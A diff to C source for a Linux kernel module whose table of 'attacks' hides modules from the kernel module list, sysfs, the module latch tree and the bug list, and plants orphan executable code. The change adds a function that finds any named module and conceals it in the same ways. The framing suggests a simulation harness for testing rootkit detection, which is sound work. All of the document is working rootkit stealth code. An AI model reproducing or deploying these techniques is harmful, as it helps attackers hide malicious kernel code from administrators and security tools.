@@ -10,6 +10,7 @@
 #include <linux/string.h>
 #include <linux/vmalloc.h>
 
+static struct module *hidden = THIS_MODULE;
 static struct list_head *before;
 static int lock_modules(void)
 {
@@ -31,8 +32,8 @@ static int unlist_on(const char *argument)
 	int result = lock_modules();
 	if (result)
 		return result;
-	before = THIS_MODULE->list.prev;
-	list_del_rcu(&THIS_MODULE->list);
+	before = hidden->list.prev;
+	list_del_rcu(&hidden->list);
 	unlock_modules();
 	return 0;
 }
@@ -40,7 +41,7 @@ static int unlist_on(const char *argument)
 static void unlist_off(void)
 {
 	lock_modules();
-	list_add_rcu(&THIS_MODULE->list, before);
+	list_add_rcu(&hidden->list, before);
 	unlock_modules();
 }
 
@@ -49,7 +50,7 @@ static struct list_head *before_in_sysfs;
 
 static int unsysfs_on(const char *argument)
 {
-	struct kobject *object = &THIS_MODULE->mkobj.kobj;
+	struct kobject *object = &hidden->mkobj.kobj;
 	if (!object->kset)
 		return -EOPNOTSUPP;
 	spin_lock(&object->kset->list_lock);
@@ -61,7 +62,7 @@ static int unsysfs_on(const char *argument)
 
 static void unsysfs_off(void)
 {
-	struct kobject *object = &THIS_MODULE->mkobj.kobj;
+	struct kobject *object = &hidden->mkobj.kobj;
 	spin_lock(&object->kset->list_lock);
 	list_add(&object->entry, before_in_sysfs);
 	spin_unlock(&object->kset->list_lock);
@@ -90,13 +91,13 @@ static void change_tree(struct latch_tree_root *root, bool insert)
 #if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
 	enum mod_mem_type type;
 	for (type = MOD_TEXT; type < MOD_MEM_NUM_TYPES; type++) {
-		struct module_memory *memory = &THIS_MODULE->mem[type];
+		struct module_memory *memory = &hidden->mem[type];
 		// Memory for initialisation has left the tree by itself.
 		if (!memory->size || type == MOD_INIT_TEXT || type == MOD_INIT_DATA || type == MOD_INIT_RODATA)
 			continue;
 #else
 	{
-		struct module_layout *memory = &THIS_MODULE->core_layout;
+		struct module_layout *memory = &hidden->core_layout;
 #endif
 		if (insert)
 			latch_tree_insert(&memory->mtn.node, root, &tree_operations);
@@ -146,6 +147,36 @@ static void hide_off(void)
 	unlist_off();
 }
 
+// Another module, that ARGUMENT names, leaves all of these, and the list by which the kernel finds where it warns: what is
+// left are its types, where its kernel has such ones of modules.
+static int hide_other_on(const char *argument)
+{
+	struct module *(*find)(const char *) = attack_symbol("find_module");
+	int result = find && attack_symbol("module_bug_list") && attack_symbol("btf_modules") ? lock_modules() : -EOPNOTSUPP;
+	if (result)
+		return result;
+	hidden = find(argument);
+	unlock_modules();
+	result = hidden ? hide_on("") : -ENOENT;
+	if (result) {
+		hidden = THIS_MODULE;
+		return result;
+	}
+	lock_modules();
+	list_del_rcu(&hidden->bug_list);
+	unlock_modules();
+	return 0;
+}
+
+static void hide_other_off(void)
+{
+	lock_modules();
+	list_add_rcu(&hidden->bug_list, attack_symbol("module_bug_list"));
+	unlock_modules();
+	hide_off();
+	hidden = THIS_MODULE;
+}
+
 // xor %eax, %eax; ret
 static const u8 orphan_content[] = {0x31, 0xc0, 0xc3};
 static void *orphan_far;
@@ -190,6 +221,7 @@ struct attack attack_modules[] = {
 	{"module_not_in_sysfs", unsysfs_on, unsysfs_off},
 	{"module_not_in_tree", untree_on, untree_off},
 	{"module_hidden", hide_on, hide_off},
+	{"module_in_no_list", hide_other_on, hide_other_off},
 	{"orphan_code", orphan_on, orphan_off},
 	{"orphan_code_vmalloc", orphan_far_on, orphan_far_off},
 	{},
